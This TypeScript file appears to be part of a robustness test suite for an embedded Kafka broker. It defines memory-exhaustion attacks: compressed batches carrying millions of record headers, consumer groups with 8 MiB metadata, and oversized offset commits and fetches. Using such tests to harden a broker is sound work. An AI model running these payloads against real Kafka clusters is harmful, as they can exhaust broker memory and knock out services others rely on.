import type { KafkaConnection } from '../../../source/embedded/kafka/client/kafka-connection.ts';
import { createPartitions } from '../../../source/embedded/kafka/messages/create-partitions.ts';
import { findCoordinator } from '../../../source/embedded/kafka/messages/find-coordinator.ts';
import { joinGroup } from '../../../source/embedded/kafka/messages/join-group.ts';
import { listOffsets } from '../../../source/embedded/kafka/messages/list-offsets.ts';
import { offsetCommit } from '../../../source/embedded/kafka/messages/offset-commit.ts';
import { offsetFetch } from '../../../source/embedded/kafka/messages/offset-fetch.ts';
import type { LoopAttack, Target } from './attack.ts';
import {
  compressedBatch,
  open,
  overController,
  produceTo,
  quietly,
  times,
  topic,
  withTopic,
} from './kafka-target.ts';

/** A number as records hold it: zigzag, seven bits a byte. */
function varint(value: number): Buffer {
  const bytes: number[] = [];
  let rest = value * 2;
  for (; rest > 0x7f; rest = Math.floor(rest / 128)) bytes.push((rest % 128) | 0x80);
  return Buffer.from([...bytes, rest]);
}

/** A record without key and value, with headers of two bytes: an empty key, an empty value. */
function recordWithHeaders(count: number): Buffer {
  const head = Buffer.concat([Buffer.from([0, 0, 0, 1, 1]), varint(count)]);
  return Buffer.concat([varint(head.length + 2 * count), head, Buffer.alloc(2 * count)]);
}

async function overCoordinator(
  target: Target,
  group: string,
  use: (connection: KafkaConnection) => Promise<unknown>,
): Promise<void> {
  const first = await open(target);
  try {
    const { host, port } = await first.call(findCoordinator, { key: group, keyType: 0 }, { version: 1 });
    const connection = await open({ ...target, bootstrap: `${host}:${port}` });
    try {
      await quietly(use(connection));
    } finally {
      connection.close();
    }
  } finally {
    first.close();
  }
}

/** Adds so many partitions to the topic; returns how many it has then. */
async function addPartitions(target: Target, added: number): Promise<number> {
  const count = added + 4;
  await overController(target, (controller) =>
    controller.call(createPartitions, {
      topics: [{ name: topic, count, assignments: null }],
      timeoutMs: 20_000,
      validateOnly: false,
    }),
  );
  return count;
}

/** Commits an offset with 4,000 bytes of metadata for each partition. */
function commitAll(target: Target, groupId: string, count: number): Promise<void> {
  const committedMetadata = 'm'.repeat(4000);
  const partitions = Array.from({ length: count }, (_, partitionIndex) => ({
    partitionIndex,
    committedOffset: 1,
    committedLeaderEpoch: -1,
    commitTimestamp: -1,
    committedMetadata,
  }));
  return overCoordinator(target, groupId, (coordinator) =>
    coordinator.call(
      offsetCommit,
      { groupId, generationId: -1, memberId: '', topics: [{ name: topic, partitions }] },
      { version: 7 },
    ),
  );
}

/** What a client leaves in the memory of the brokers, and what a small batch becomes there. */
export const kafkaMemoryAttacks: readonly LoopAttack[] = [
  {
    name: 'kafka-millions-of-headers',
    async run(target, scale) {
      for (const config of [{}, { 'cleanup.policy': 'compact' }])
        await withTopic(target, config, async (leader) => {
          for (const count of [3_500_000, 45_000])
            await quietly(produceTo(leader, [compressedBatch(recordWithHeaders(times(count, scale)), 1)]));
          const asked = {
            replicaId: -1,
            isolationLevel: 0,
            topics: [{ name: topic, partitions: [{ partitionIndex: 0, timestamp: 1 }] }],
          };
          for (let round = 0; round < 20; round++) await quietly(leader.call(listOffsets, asked));
        });
    },
  },
  {
    name: 'kafka-groups-of-8-mib',
    async run(target, scale) {
      for (let index = 0; index < times(40, scale); index++) {
        const groupId = `${topic}-${index}`;
        await overCoordinator(target, groupId, (coordinator) =>
          coordinator.call(
            joinGroup,
            {
              groupId,
              // So that nothing of it is left after the attack.
              sessionTimeoutMs: 6000,
              rebalanceTimeoutMs: 6000,
              memberId: '',
              groupInstanceId: null,
              protocolType: 'consumer',
              protocols: [{ name: 'range', metadata: Buffer.alloc(7_900_000) }],
            },
            { version: 2, timeoutMs: 8000 },
          ),
        );
      }
    },
  },
  {
    name: 'kafka-offsets-with-metadata',
    run: (target, scale) =>
      withTopic(target, {}, async () => {
        const count = await addPartitions(target, times(790, scale));
        for (let index = 0; index < times(60, scale); index++)
          await commitAll(target, `${topic}-${index}`, count);
      }),
  },
  {
    name: 'kafka-offsets-asked-thousands-of-times',
    run: (target, scale) =>
      withTopic(target, {}, async () => {
        const count = await addPartitions(target, times(790, scale));
        await commitAll(target, topic, count);
        const group = { groupId: topic, topics: null };
        const groups = Array.from({ length: times(3000, scale) }, () => group);
        const one = { name: topic, partitionIndexes: [0] };
        const topics = Array.from({ length: times(14_000, scale) }, () => one);
        await overCoordinator(target, topic, async (coordinator) => {
          await quietly(coordinator.call(offsetFetch, { groups }));
          await quietly(coordinator.call(offsetFetch, { groupId: topic, topics }, { version: 1 }));
        });
      }),
  },
];
